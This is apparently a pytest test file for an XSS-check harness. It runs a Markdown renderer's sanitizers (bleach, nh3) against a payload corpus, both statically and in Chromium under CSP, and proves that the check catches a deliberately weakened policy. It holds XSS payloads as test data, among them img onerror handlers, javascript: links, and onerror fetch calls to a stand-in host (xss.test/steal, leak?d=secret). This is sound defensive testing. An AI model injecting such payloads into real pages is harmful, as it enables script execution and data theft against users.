"""The XSS check: the corpus, the static check, the browser oracle, the command.

What runs here, and why it stays under a minute:

- the whole shipped corpus, statically, with both backends, at full depth
  (whole, every 2-way split, 1-character chunks, every HTML prefix);
- DOMPurify's own fixtures (from ``../shared/corpora``, skipped when that is
  absent), one-shot, with both backends;
- in Chromium, the documented sample ``BROWSER_SAMPLE`` (every 10th payload
  of the shipped corpus plus the payloads named in ``BROWSER_NAMED``) with
  both backends, through the real page, client code and CSP. The whole
  corpus in the browser takes about a minute per backend:
  ``python -m renderer xss-check --browser [--sanitizer nh3]``;
- a deliberately weakened policy (one that keeps ``onerror`` on images),
  caught statically, by the client's re-check, by the CSP, and, with both
  of those defences off, seen executing by the oracle: the check can fail.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import pytest

from renderer.__main__ import main
from renderer.harness.xss import (
    BROWSER_CLASSES,
    BrowserOptions,
    CorpusError,
    Payload,
    Report,
    check,
    check_payload,
    chunkings,
    clean_markdown,
    default_corpus_path,
    format_report,
    load_corpus,
    make_sanitizer,
    parse_corpus,
)
from renderer.sanitizer.clean import ALLOWED_ATTRIBUTES, BleachSanitizer, Policy, Sanitizer

ROOT = Path(__file__).resolve().parent.parent
DOMPURIFY_FIXTURES = ROOT.parent / "shared" / "corpora" / "dompurify-expect.mjs"
JOBS = os.cpu_count() or 1

#: The shipped corpus's classes: each must be there.
GROUPS = {
    "css", "dompurify", "dompurify-fixture", "encoding", "event-handler", "handler-matrix", "html5sec",
    "markdown", "markdown-url", "mxss", "polyglot", "scheme-matrix", "script", "split", "streaming",
    "url-attribute", "url-html",
}  # fmt: skip

#: Payloads the browser sample always includes, beside every 10th one: one
#: per vector that needs the browser's own parser or the CSP to judge.
BROWSER_NAMED = (
    "event-handler/img-onerror",
    "event-handler/details-ontoggle",
    "mxss/svg-p-style",
    "mxss/noscript-title-breakout",
    "dompurify/2.0.17-math-mtext",
    "markdown-url/image-remote",
    "markdown-url/reference-plain",
    "streaming/late-reference-replace",
    "streaming/code-fence-streams",
    "url-html/a-href-tab-entity",
)


class UncheckedPolicy(Policy):
    """A Policy without its safety validation, to build deliberately weak ones
    (``Policy`` refuses ``on*`` attributes, rightly)."""

    __slots__ = ()

    def __post_init__(self) -> None:
        pass


def weakened() -> Sanitizer:
    """bleach with the default policy, except that images keep ``onerror``."""
    attributes = {**ALLOWED_ATTRIBUTES, "img": ALLOWED_ATTRIBUTES["img"] | {"onerror"}}
    return BleachSanitizer(UncheckedPolicy(attributes=attributes))


@pytest.fixture(scope="module")
def corpus() -> list[Payload]:
    return load_corpus()


def browser_sample(corpus: list[Payload]) -> list[Payload]:
    """The documented browser sample: every 10th payload plus BROWSER_NAMED."""
    sample = corpus[::10]
    sample += [payload for payload in corpus if payload.name in BROWSER_NAMED and payload not in sample]
    return sample


def needs_browser() -> None:
    pytest.importorskip("playwright.sync_api")
    if not (os.environ.get("RENDERER_CHROMIUM") or os.path.exists("/usr/bin/chromium")):
        pytest.skip("no Chromium at /usr/bin/chromium (or RENDERER_CHROMIUM)")


def failures(report: Report) -> list[str]:
    """The report's lines about failing payloads."""
    return [line for line in format_report(report) if line.startswith(("FAIL ", "  static:", "  browser:"))]


# -- the corpus --------------------------------------------------------------------------


def test_the_shipped_corpus_has_at_least_300_distinct_named_payloads(corpus: list[Payload]) -> None:
    assert len({payload.text for payload in corpus}) == len(corpus) >= 300
    assert len({payload.name for payload in corpus}) == len(corpus)
    assert {payload.group for payload in corpus} == GROUPS


def test_the_shipped_corpus_is_package_data() -> None:
    path = default_corpus_path()
    assert path.parent.name == "corpus" and path.parent.parent.name == "harness"
    assert path.is_file()


@pytest.mark.parametrize(
    ("text", "format", "expected"),
    [
        pytest.param('"<b>x</b>"\n', "jsonl", [("line 1", "<b>x</b>")], id="jsonl-string"),
        pytest.param(
            '{"name": "g/n", "payload": "a\\nb"}\n\n"c"',
            "jsonl",
            [("g/n", "a\nb"), ("line 3", "c")],
            id="jsonl-object-and-blank-line",
        ),
        pytest.param("<b>x</b>\r\n\n  y  \n", "lines", [("line 1", "<b>x</b>"), ("line 3", "  y  ")], id="lines"),
        pytest.param('"<img src=x onerror=1>"', "lines", [("line 1", '"<img src=x onerror=1>"')], id="lines-quoted"),
    ],
)
def test_corpus_formats(text: str, format: str, expected: list[tuple[str, str]]) -> None:
    payloads = parse_corpus(text, format=format)  # type: ignore[arg-type]
    assert [(payload.name, payload.text) for payload in payloads] == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param("not json", "line 1: not JSON", id="not-json"),
        pytest.param('"a"\n[1]', "line 2: expected a JSON string", id="array"),
        pytest.param('{"name": "x"}', '"payload" and "name" must be strings', id="no-payload"),
        pytest.param('{"payload": "x", "name": 3}', '"payload" and "name" must be strings', id="name-not-string"),
        pytest.param("\n \n", "no payloads", id="empty"),
    ],
)
def test_bad_corpus_lines_are_named(text: str, message: str) -> None:
    with pytest.raises(CorpusError, match=re.escape(message)):
        parse_corpus(text, format="jsonl", source="c.jsonl")


def test_unreadable_corpus_files(tmp_path: Path) -> None:
    with pytest.raises(CorpusError, match="No such file"):
        load_corpus(tmp_path / "missing.jsonl")
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"ok\n\xff\n")
    with pytest.raises(CorpusError, match="not valid UTF-8 at byte 3"):
        load_corpus(bad)


def test_load_corpus_picks_the_format_by_extension(tmp_path: Path) -> None:
    (tmp_path / "c.jsonl").write_text('"a"\n', encoding="utf-8")
    (tmp_path / "c.txt").write_text('"a"\n', encoding="utf-8")
    assert load_corpus(tmp_path / "c.jsonl")[0].text == "a"
    assert load_corpus(tmp_path / "c.txt")[0].text == '"a"'
    assert load_corpus(tmp_path / "c.txt", format="jsonl")[0].text == "a"


# -- the pipeline ----------------------------------------------------------------------------


def test_chunkings_are_whole_every_two_way_split_and_characters() -> None:
    labels = [label for label, _ in chunkings("abcd")]
    assert labels == ["whole", "split@1", "split@2", "split@3", "chars"]
    assert all("".join(chunks) == "abcd" for _, chunks in chunkings("abcd"))
    assert [label for label, _ in chunkings("abcd", "chars")] == ["whole", "chars"]
    assert [label for label, _ in chunkings("abcd", "one-shot")] == ["whole"]


def test_a_sanitizer_that_lets_everything_through_fails_everywhere() -> None:
    outcome = check_payload(Payload("t/x", '<img src="x" onerror="__xss=1">'), lambda html: html)
    routes = {problem.route.split(" op ")[0] for problem in outcome.problems}
    assert "markdown one-shot" in routes
    assert outcome.problems[0].found == ["<img onerror>"]
    assert outcome.failed


def test_every_intermediate_state_is_checked() -> None:
    # A sanitizer that misbehaves only on what the tail shows before the
    # text after "</b>" arrives: the final output is clean, a state is not.
    bleach = make_sanitizer("bleach")

    def gate(html: str) -> str:
        clean = bleach(html)
        return clean + '<img src="x" onerror="__xss=1">' if clean.endswith("</b></p>\n") else clean

    outcome = check_payload(Payload("t/x", "<b>x</b> and more"), gate)
    assert outcome.failed
    routes = [problem.route for problem in outcome.problems]
    assert "markdown one-shot" not in routes
    assert all(re.match(r"markdown (split@\d+|chars) op \d+ \((tail|append)\)", route) for route in routes), routes


def test_clean_markdown_says_what_the_sanitizer_removed() -> None:
    result = clean_markdown('# Hi\n\n<b onclick="x()">b</b><script>x()</script>\n\n[a](javascript:x)')
    assert result.html.startswith('<h1 dir="auto">Hi</h1>')
    assert "<b>b</b>" in result.html and "onclick" not in result.html
    assert result.removed == ["<b onclick>", "<script>"]


@pytest.mark.slow
@pytest.mark.parametrize("backend", ["bleach", "nh3"])
def test_the_whole_corpus_passes_statically(corpus: list[Payload], backend: str) -> None:
    if backend == "nh3":
        pytest.importorskip("nh3")
    report = check(corpus, backend, jobs=JOBS)
    assert failures(report) == []
    assert not report.failed
    # Many intermediate states per payload, not just the final HTML (distinct
    # states: the flash-free preview shows fewer half-typed variants).
    assert sum(outcome.states for outcome in report.outcomes) > 10 * len(corpus)


def dompurify_payloads() -> list[Payload]:
    if not DOMPURIFY_FIXTURES.is_file():
        pytest.skip(f"no {DOMPURIFY_FIXTURES} (the shared corpora are not checked out beside this repository)")
    text = DOMPURIFY_FIXTURES.read_text(encoding="utf-8").strip().removeprefix("export default").strip()
    fixtures = json.loads(re.sub(r",(\s*[\]}])", r"\1", text.rstrip(";")))
    return [
        Payload(f"dompurify-fixture/{index}", fixture["payload"])
        for index, fixture in enumerate(fixtures)
        if isinstance(fixture.get("payload"), str)
    ]


@pytest.mark.slow
@pytest.mark.parametrize("backend", ["bleach", "nh3"])
def test_dompurify_fixtures_pass_statically(backend: str) -> None:
    payloads = dompurify_payloads()
    if backend == "nh3":
        pytest.importorskip("nh3")
    assert len(payloads) > 200
    # One-shot: some fixtures are long, and the shipped corpus covers the
    # streaming of these classes.
    report = check(payloads, backend, depth="one-shot", jobs=JOBS)
    assert failures(report) == []


@pytest.mark.slow
def test_a_weakened_policy_fails_the_static_check(corpus: list[Payload]) -> None:
    sample = [payload for payload in corpus if payload.group in ("script", "event-handler")]
    report = check(sample, weakened(), depth="chars")
    assert report.failed
    found = {entry for outcome in report.outcomes for problem in outcome.problems for entry in problem.found}
    assert found == {"<img onerror>"}
    lines = format_report(report)
    assert lines[-1].startswith("FAIL: 0 executed, ")
    assert any(line.startswith("FAIL event-handler/img-onerror") for line in lines)


# -- the report ----------------------------------------------------------------------------


def test_the_report_is_a_table_by_group() -> None:
    report = check([Payload("a/1", "<b>x</b>"), Payload("b/1", "*y*"), Payload("b/2", "z")], "bleach")
    lines = format_report(report)
    assert lines[0].startswith("xss-check: 3 payloads (shipped corpus), sanitizer bleach, browser: not run")
    header = lines[3].split()
    assert header == ["group", "payloads", "states", "disallowed", *BROWSER_CLASSES]
    assert lines[4].split()[:2] == ["a", "1"] and lines[5].split()[:2] == ["b", "2"]
    assert lines[6].split()[:2] == ["total", "3"] and lines[6].split()[4:] == ["-"] * 4
    assert lines[-1].startswith("PASS: 0 executed, 0 with disallowed output, ")


# -- the command -----------------------------------------------------------------------------


def run_cli(*args: str, stdin: bytes = b"") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "renderer", "xss-check", *args],
        input=stdin.decode("utf-8", "surrogateescape"),
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )


def test_the_command_passes_a_user_corpus(tmp_path: Path) -> None:
    corpus = tmp_path / "mine.jsonl"
    corpus.write_text('{"name": "mine/img", "payload": "<img src=x onerror=__xss=1>"}\n"[x](javascript:__xss=1)"\n')
    result = run_cli(str(corpus), "--jobs", "1")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"xss-check: 2 payloads ({str(corpus)!r}), sanitizer bleach")
    assert re.search(r"^total +2 +\d+ +0", result.stdout, re.M)
    assert result.stdout.splitlines()[-1].startswith("PASS")


def test_the_command_reads_stdin_one_payload_a_line() -> None:
    result = run_cli("-", "--sanitizer", "nh3", "--depth", "chars", stdin=b"<svg onload=__xss=1>\n<b>ok</b>\n")
    assert result.returncode == 0, result.stderr
    assert "2 payloads (<stdin>), sanitizer nh3" in result.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        pytest.param(["missing.jsonl"], "cannot read 'missing.jsonl': No such file or directory", id="missing"),
        pytest.param(["--sanitizer", "dompurify"], "argument --sanitizer: invalid choice", id="backend"),
        pytest.param(["--jobs", "0"], "argument --jobs: must be at least 1", id="jobs"),
        pytest.param(["-"], "<stdin>: no payloads", id="empty-stdin"),
    ],
)
def test_the_command_rejects_bad_input_in_one_line(args: list[str], message: str) -> None:
    result = run_cli(*args)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and message in result.stderr, result.stderr


def test_the_command_rejects_a_malformed_corpus_line(tmp_path: Path) -> None:
    corpus = tmp_path / "bad.jsonl"
    corpus.write_text('"ok"\n{"payload": 1}\n')
    result = run_cli(str(corpus))
    assert (result.returncode, result.stderr.count("\n")) == (2, 1)
    assert "line 2:" in result.stderr


def test_the_command_exits_3_with_a_weakened_policy(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    corpus = tmp_path / "c.txt"
    corpus.write_text("<img src=x onerror=__xss=1>\n<b>fine</b>\n")
    monkeypatch.setattr("renderer.harness.pipeline.make_sanitizer", lambda name, **options: weakened())
    assert main(["xss-check", str(corpus), "--jobs", "1"]) == 3
    out = capsys.readouterr().out
    assert re.search(r"^total +2 +\d+ +1 ", out, re.M)
    assert "FAIL line 1: <img src=x onerror=__xss=1>" in out
    assert "<img onerror>" in out


# -- the browser -------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.parametrize("backend", ["bleach", "nh3"])
def test_the_browser_sample_runs_clean_under_the_real_page_and_csp(corpus: list[Payload], backend: str) -> None:
    needs_browser()
    if backend == "nh3":
        pytest.importorskip("nh3")
    sample = browser_sample(corpus)
    report = check(sample, backend, browser=True, jobs=JOBS)
    assert failures(report) == []
    verdicts = {outcome.payload.name: outcome.verdict for outcome in report.outcomes}
    assert set(verdicts.values()) <= {"clean", "blocked"}
    # A remote image gets past the sanitizer (https is allowed) and is
    # stopped by the page's CSP: the oracle tells the two apart.
    remote = next(o for o in report.outcomes if o.payload.name == "markdown-url/image-remote")
    assert remote.verdict == "blocked"
    assert remote.evidence == ["csp blocked img-src https://xss.test/leak?d=secret"]
    assert report.browser and report.browser.startswith("chromium ")
    assert all(not outcome.client_errors for outcome in report.outcomes)


def math_payloads(corpus: list[Payload]) -> list[Payload]:
    """Every payload that goes through <math> (raw MathML or TeX), containers,
    task lists, footnotes and autolinks: what the chat configuration added."""
    words = ("math", "tex-", "details", "container", "tasklist", "footnote", "linkify")
    return [payload for payload in corpus if any(word in payload.name for word in words)]


def test_the_corpus_has_namespace_confusion_payloads_through_math(corpus: list[Payload]) -> None:
    names = [payload.name for payload in math_payloads(corpus)]
    assert len([name for name in names if name.startswith("mxss/math-allowed-")]) >= 15
    assert len(names) >= 50


@pytest.mark.browser
@pytest.mark.parametrize("backend", ["bleach", "nh3"])
def test_no_math_payload_runs_or_leaves_anything_outside_the_allowlist_in_chromium(
    corpus: list[Payload], backend: str
) -> None:
    needs_browser()
    if backend == "nh3":
        pytest.importorskip("nh3")
    report = check(math_payloads(corpus), backend, browser=True, jobs=JOBS)
    assert failures(report) == []
    assert {outcome.verdict for outcome in report.outcomes} <= {"clean", "blocked"}
    assert all(not outcome.client_errors for outcome in report.outcomes)


WEAK_PAYLOADS = [
    Payload("weak/canary", "<img src=x onerror=__xss=1>"),
    Payload("weak/alert", "Look: <img src=x onerror=alert(document.domain)> here"),
    Payload("weak/navigate", "<img src=x onerror=\"location.href='/elsewhere'\">"),
    Payload("weak/fetch", "<img src=x onerror=\"fetch('https://xss.test/steal')\">"),
    Payload("weak/print-after-navigation", "<img src=x onerror=print()>"),
    Payload("weak/remote-image", "![chart](https://xss.test/leak.png)"),
    Payload("weak/harmless", "Just *text*."),
]


def run_weakened(options: BrowserOptions) -> dict[str, tuple[str | None, list[str]]]:
    report = check(WEAK_PAYLOADS, weakened(), browser=True, browser_options=options)
    assert report.failed
    return {outcome.payload.name: (outcome.verdict, outcome.evidence) for outcome in report.outcomes}


@pytest.mark.browser
def test_a_weakened_policy_is_caught_by_the_clients_recheck() -> None:
    needs_browser()
    seen = run_weakened(BrowserOptions())
    for name in ("weak/canary", "weak/alert", "weak/navigate", "weak/fetch"):
        verdict, evidence = seen[name]
        assert verdict == "disallowed", (name, evidence)
        assert "client re-check removed <img onerror>" in evidence
    assert seen["weak/remote-image"][0] == "blocked"
    assert seen["weak/harmless"] == ("clean", [])


@pytest.mark.browser
def test_a_weakened_policy_is_stopped_by_the_csp_alone() -> None:
    needs_browser()
    # Each state assigned with innerHTML: no client re-check, the CSP only.
    seen = run_weakened(BrowserOptions(client="raw"))
    for name in ("weak/canary", "weak/alert", "weak/navigate", "weak/fetch"):
        verdict, evidence = seen[name]
        assert verdict == "disallowed", (name, evidence)  # the live DOM holds onerror...
        assert "live DOM holds <img onerror>" in evidence
        assert "csp blocked script-src-attr inline" in evidence  # ...which the CSP refused to run
    assert seen["weak/remote-image"] == ("blocked", ["csp blocked img-src https://xss.test/leak.png"])


@pytest.mark.browser
def test_the_oracle_sees_execution_when_every_defence_is_off() -> None:
    needs_browser()
    seen = run_weakened(BrowserOptions(client="raw", csp=False))
    assert seen["weak/canary"][0] == "executed"
    assert "canary: __xss = 1" in seen["weak/canary"][1]
    assert "hook: alert(127.0.0.1)" in seen["weak/alert"][1]
    assert any(item.startswith("navigation:") for item in seen["weak/navigate"][1])
    assert "hook: fetch(https://xss.test/steal)" in seen["weak/fetch"][1]
    # A payload after a navigation runs in a fresh page, and is judged alone.
    assert seen["weak/print-after-navigation"][0] == "executed"
    assert "hook: print()" in seen["weak/print-after-navigation"][1]
    assert seen["weak/remote-image"] == ("executed", ["request: https://xss.test/leak.png left the page"])
    assert seen["weak/harmless"] == ("clean", [])
    assert {verdict for verdict, _ in seen.values()} == {"executed", "clean"}


# -- the command: targets, outputs, selection --------------------------------------------------

WEAK_COMMAND = f"{sys.executable} {ROOT / 'examples' / 'harness' / 'weak_render.py'}"


@pytest.fixture
def small_corpus(tmp_path: Path) -> Path:
    corpus = tmp_path / "small.jsonl"
    corpus.write_text(
        '{"name": "e/img", "payload": "<img src=x onerror=__xss=1>", "classes": ["event-handler"], "source": "t"}\n'
        '{"name": "u/js", "payload": "[a](javascript:__xss=1)", "classes": ["url-scheme", "markdown"], "source": "t"}\n'
        '{"name": "p/ok", "payload": "*fine*", "classes": ["markdown"], "source": "t"}\n'
    )
    return corpus


def test_the_command_catches_a_weak_command_target(small_corpus: Path) -> None:
    result = run_cli(str(small_corpus), "--command", WEAK_COMMAND, "--stream", "--chunk-size", "8")
    assert result.returncode == 3, result.stderr
    assert result.stdout.startswith(f"xss-check: 3 payloads ({str(small_corpus)!r}), command: {WEAK_COMMAND}, ")
    assert "FAIL e/img: <img src=x onerror=__xss=1>" in result.stdout
    assert '  static: whole: <a href="javascript:..."> in ' in result.stdout
    assert result.stdout.splitlines()[-1].startswith("FAIL: 0 executed, 2 with disallowed output, ")


def test_the_command_writes_json_junit_and_html(small_corpus: Path, tmp_path: Path) -> None:
    junit, page = tmp_path / "out.xml", tmp_path / "out.html"
    result = run_cli(str(small_corpus), "--command", WEAK_COMMAND, "--json", "--junit", str(junit), "--html", str(page))
    assert result.returncode == 3, result.stderr
    data = json.loads(result.stdout)
    assert data["target"] == f"command: {WEAK_COMMAND}" and data["results"]["disallowed"] == 2
    assert [o["name"] for o in data["outcomes"] if o["failed"]] == ["e/img", "u/js"]
    assert 'tests="3" failures="2" errors="0"' in junit.read_text(encoding="utf-8")
    assert page.read_text(encoding="utf-8").count('<section class="payload"') == 2


def test_class_selects_payloads(small_corpus: Path) -> None:
    result = run_cli(str(small_corpus), "--command", WEAK_COMMAND, "--class", "url-scheme", "--json")
    assert [o["name"] for o in json.loads(result.stdout)["outcomes"]] == ["u/js"]
    assert json.loads(result.stdout)["corpus"].endswith(", class url-scheme")
    shipped = run_cli("--class", "css", "--depth", "one-shot", "--jobs", "1")
    assert shipped.returncode == 0, shipped.stderr
    assert re.search(r"^total +\d+ ", shipped.stdout, re.M)
    assert "payloads (shipped corpus, class css)" in shipped.stdout


def test_two_targets_are_compared_side_by_side(small_corpus: Path, tmp_path: Path) -> None:
    junit = tmp_path / "diff.xml"
    result = run_cli(str(small_corpus), "--command", WEAK_COMMAND, "--pipeline", "--junit", str(junit))
    assert result.returncode == 3, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == f"xss-check --diff: 3 payloads ({str(small_corpus)!r})"
    assert "only A lets through: 2" in lines and "only B lets through: 0" in lines
    assert lines[-1] == "FAIL: A fails, B passes; they disagree on 2 payloads"
    root = ElementTree.fromstring(junit.read_bytes())
    assert root.get("tests") == "6" and root.get("failures") == "2"
    assert {suite.get("name", "")[:2] for suite in root} == {"A.", "B."}
    as_json = run_cli(str(small_corpus), "--command", WEAK_COMMAND, "--pipeline", "--json")
    value = json.loads(as_json.stdout)
    assert (value["only_a_lets_through"], value["only_b_lets_through"], value["passed"]) == (
        ["e/img", "u/js"],
        [],
        False,
    )
    assert value["b"]["target"] == "pipeline (bleach)"


def test_the_progress_bar_goes_to_stderr_when_asked(small_corpus: Path) -> None:
    result = run_cli(str(small_corpus), "--progress", "--jobs", "1")
    assert result.returncode == 0
    assert "] 3/3 payloads" in result.stderr
    assert "\r" not in result.stdout
    quiet = run_cli(str(small_corpus), "--jobs", "1")  # not a terminal: no bar
    assert quiet.stderr == ""


@pytest.mark.parametrize(
    ("args", "message"),
    [
        pytest.param(["--command", "no-such-renderer-here"], "'no-such-renderer-here' not found", id="command"),
        pytest.param(["--url", "ftp://x"], "--url must be an http or https URL", id="url"),
        pytest.param(["--js", "missing.mjs"], "--js: no module at 'missing.mjs'", id="js"),
        pytest.param(["--pipeline", "--pipeline", "--pipeline"], "at most two targets", id="three"),
        pytest.param(["--class", "no-such-class"], "no payload of class no-such-class", id="class"),
        pytest.param(["--chunk-size", "0"], "argument --chunk-size: must be at least 1", id="chunk"),
    ],
)
def test_bad_targets_and_selections_are_usage_errors(args: list[str], message: str) -> None:
    result = run_cli(*args)
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and message in result.stderr, result.stderr


def test_the_help_documents_targets_outputs_and_exit_statuses() -> None:
    result = run_cli("--help")
    for flag in ("--command CMD", "--url URL", "--js MODULE", "--stream", "--json", "--junit FILE", "--html FILE"):
        assert flag in result.stdout
    assert "exit status: 0 every payload passed; 2 bad arguments" in result.stdout
